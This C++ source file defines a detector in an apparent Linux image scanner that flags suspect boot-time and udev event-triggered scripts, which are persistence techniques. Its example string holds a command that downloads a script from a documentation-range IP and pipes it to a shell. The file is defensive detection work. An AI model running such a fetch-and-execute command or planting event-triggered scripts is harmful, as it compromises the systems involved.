// Scripts that something runs by itself because of where they stand: at boot (P04), and when a device or a network
// comes, at login for the message of the day, or once at a set time (P08). Each is ordinary by itself; said is what
// another detector has something against, or what udev is told to run from an odd place.
#include <algorithm>
#include <array>

#include "detect/detector.hpp"
#include "detect/start/start_entries.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::size_t k_most_bytes = std::size_t{1} << 20;
constexpr std::size_t k_most_shown = 200;

constexpr std::array<RuleRow, 2> k_rows{{
    {"P04", EvidenceClass::context, model::Severity::low, 60, "Suspect start-up script", "T1037.004",
     "Find out who put the script there."},
    {"P08", EvidenceClass::supporting, model::Severity::medium, 70, "Script that an event runs", "T1546.017",
     "Find out who put the script there and what runs it."},
}};

class EventScripts final : public Detector {
 public:
  bool wants(const layers::FileInfo& file) const override {
    return file.size() > 0 && file.size() <= k_most_bytes && start_file_kind(file.path()) == StartFileKind::udev_rule;
  }

  void collect(const layers::FileView& file, EvidenceSink& out) const override {
    for (const StartCommand& command : parse_start_file(StartFileKind::udev_rule, file.text()).commands) {
      const bool odd = is_odd_command(command.command) || is_temporary(command.command);
      Evidence evidence = evidence_of(k_rows[1], "a device runs: " + command.command.substr(0, k_most_shown));
      if (!odd) evidence.cls = EvidenceClass::context;
      evidence.line = command.line;
      evidence.values = {{"command", command.command}};
      out.add(std::move(evidence));
    }
  }

  void image(const ImageContext& context, ImageEvidence& out) const override {
    raise_entries(context, k_rows[1], out);
    raise_scripts(context, k_rows[0], EvidenceClass::context, "runs at boot", is_boot_script, out);
    raise_scripts(context, k_rows[1], EvidenceClass::strong, "an event runs this script", is_event_script, out);
  }
};

const util::Registered<EventScripts> registered{{
    .id = "event-scripts",
    .version = 1,
    .summary = "suspect scripts at boot, and on events of udev, networks, logins and at",
    .example = "a device runs: /bin/sh -c 'curl http://192.0.2.1/x | sh'",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
